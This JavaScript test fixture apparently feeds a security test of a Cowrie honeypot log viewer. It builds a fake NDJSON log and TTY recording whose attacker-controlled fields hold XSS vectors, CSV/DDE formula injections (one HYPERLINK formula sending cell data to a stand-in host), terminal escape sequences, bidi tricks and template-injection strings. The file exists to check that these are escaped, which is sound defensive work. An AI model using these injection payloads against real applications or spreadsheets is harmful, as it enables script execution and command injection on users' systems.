// A Cowrie JSON log full of hostile strings, in every attacker-controlled field the report shows:
// usernames, passwords, commands, unknown-command inputs, download URLs and file names, upload
// names, client versions, forwarding targets, and one sensor name. Used by run.mjs.
//
// A payload that "works" sets window.__cb_pwned, opens a dialog, or fetches from 198.51.100.7
// (TEST-NET-2): the test watches for all three.

export const PAYLOADS = [
  '<script>window.__cb_pwned=1;alert(1)</script>',
  '"><img src=x onerror="window.__cb_pwned=2">',
  "'><svg onload=window.__cb_pwned=3>",
  '</script><script>window.__cb_pwned=4</script>',
  '<!--<script>window.__cb_pwned=5</script>',
  '<img src="http://198.51.100.7/beacon.png">',
  '<iframe src="https://198.51.100.7/frame"></iframe>',
  '<link rel=stylesheet href=//198.51.100.7/x.css><style>@import "http://198.51.100.7/y.css";</style>',
  'javascript:window.__cb_pwned=6//',
  'JaVaScRiPt:alert(document.domain)',
  'data:text/html,<script>window.__cb_pwned=7</script>',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://198.51.100.7/"&A1,"click")',
  '\u001b]0;pwned\u0007root',
  '\u001b[2J\u001b[H\u001b[31mred',
  'echo \u001b[6n; \u009b31m',
  '\u202eexe.txt',
  'admin\u2066\u2069\u200b\u200fx',
  'line\u2028sep\u2029end',
  '{{constructor.constructor("window.__cb_pwned=8")()}}',
  '${window.__cb_pwned=9}',
  '{a|rich}{b|text} {@x}',
  '&lt;script&gt;window.__cb_pwned=10&lt;/script&gt;',
  'nul\u0000byte',
  'A'.repeat(6000) + '<b>long</b>',
];

const pad = (n, w = 2) => String(n).padStart(w, '0');
function ts(sec) {
  const d = new Date(Date.UTC(2024, 4, 1, 12, 0, 0) + sec * 1000);
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}T${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${pad(d.getUTCMilliseconds(), 3)}000Z`;
}

/** The log as NDJSON text, and the session ids with the payload each one carries. */
export function hostileLog() {
  const lines = [];
  const sessions = [];
  let t = 0;
  PAYLOADS.forEach((v, i) => {
    const session = (0xbad000 + i).toString(16).padStart(12, '0');
    const sensor = i === 0 ? '<script>window.__cb_pwned=11</script>' : 'sensor-h';
    const ev = (eventid, kw) => {
      lines.push(JSON.stringify({ eventid, session, sensor, src_ip: `198.51.100.${10 + i}`, timestamp: ts(t), ...kw }));
      t += 1;
    };
    ev('cowrie.session.connect', { src_port: 50000 + i, dst_ip: '10.0.0.5', dst_port: 22, protocol: 'ssh' });
    ev('cowrie.client.version', { version: v });
    ev('cowrie.client.kex', { hassh: 'ab'.repeat(16) });
    ev('cowrie.login.failed', { username: v, password: 'x' });
    ev('cowrie.login.success', { username: 'root', password: v });
    ev('cowrie.command.input', { input: v });
    ev('cowrie.command.failed', { input: v });
    ev('cowrie.command.input', { input: 'uname -a' });
    ev('cowrie.session.file_download', { url: v, shasum: 'cd'.repeat(32), outfile: v, duplicate: false });
    ev('cowrie.session.file_download.failed', { url: v });
    ev('cowrie.session.file_upload', { filename: v, shasum: 'ef'.repeat(32), destfile: v });
    ev('cowrie.direct-tcpip.request', { dst_ip: v, dst_port: 25, src_ip: `198.51.100.${10 + i}`, src_port: 4000 });
    ev('cowrie.log.closed', { ttylog: `var/lib/cowrie/tty/${v}`, size: 1234, shasum: '12'.repeat(32), duplicate: false });
    ev('cowrie.session.closed', { duration: 12.5 });
    sessions.push({ id: `${sensor}/${session}`, payload: v, src_ip: `198.51.100.${10 + i}` });
  });
  return { text: lines.join('\n') + '\n', sessions };
}

// A session with a TTY recording whose OUTPUT carries markup and terminal escapes: the player
// must show it as plain text (no escape sequence, no element). Returns the log line text, the
// recording's bytes and file name (Cowrie names it by the SHA-256 of the INPUT payloads).
export const TTY_OUTPUT = [
  'root@svr04:~# ',
  'cat x\r\n',
  '<script>window.__cb_pwned=12</script>\r\n',
  '<img src=x onerror="window.__cb_pwned=13">\r\n',
  '\u001b]0;pwned-title\u0007\u001b[2J\u001b[H\u001b[31mred\u001b[0m \u001b[6n \u001b[?1049h\r\n',
  '\u202eexe.txt \u0000nul \u009b31m\r\n',
  'root@svr04:~# ',
];
export const TTY_SESSION = { sensor: 'sensor-h', session: '0000bad77777', src_ip: '198.51.100.200' };

export function hostileTty(createHash) {
  const t0 = Date.UTC(2024, 4, 1, 13, 0, 0) / 1000;
  const recs = [];
  const rec = (op, dir, sec, payload = '') => {
    const data = Buffer.from(payload, 'utf8');
    const hdr = Buffer.alloc(24);
    hdr.writeInt32LE(op, 0); hdr.writeUInt32LE(0, 4); hdr.writeInt32LE(data.length, 8);
    hdr.writeInt32LE(dir, 12); hdr.writeUInt32LE(t0 + sec, 16); hdr.writeUInt32LE(0, 20);
    recs.push(hdr, data);
  };
  rec(1, 0, 0);
  const input = 'cat x\r';
  TTY_OUTPUT.forEach((o, i) => {
    if (i === 1) rec(3, 1, i, input);
    rec(3, 2, i, o);
  });
  rec(2, 0, TTY_OUTPUT.length);
  const bytes = Buffer.concat(recs);
  const name = createHash('sha256').update(input).digest('hex');
  const { sensor, session, src_ip } = TTY_SESSION;
  const iso = (s) => new Date((t0 + s) * 1000).toISOString().replace('Z', '000Z');
  const ev = (eventid, s, kw) => JSON.stringify({ eventid, session, sensor, src_ip, timestamp: iso(s), ...kw });
  const lines = [
    ev('cowrie.session.connect', -2, { src_port: 51000, dst_ip: '10.0.0.5', dst_port: 22, protocol: 'ssh' }),
    ev('cowrie.login.success', -1, { username: 'root', password: 'x' }),
    ev('cowrie.command.input', 1, { input: 'cat x' }),
    ev('cowrie.log.closed', TTY_OUTPUT.length, { ttylog: `var/lib/cowrie/tty/${name}`, size: bytes.length, shasum: name, duplicate: false }),
    ev('cowrie.session.closed', TTY_OUTPUT.length, { duration: TTY_OUTPUT.length + 2 }),
  ];
  return { text: lines.join('\n') + '\n', bytes, name, id: `${sensor}/${session}` };
}
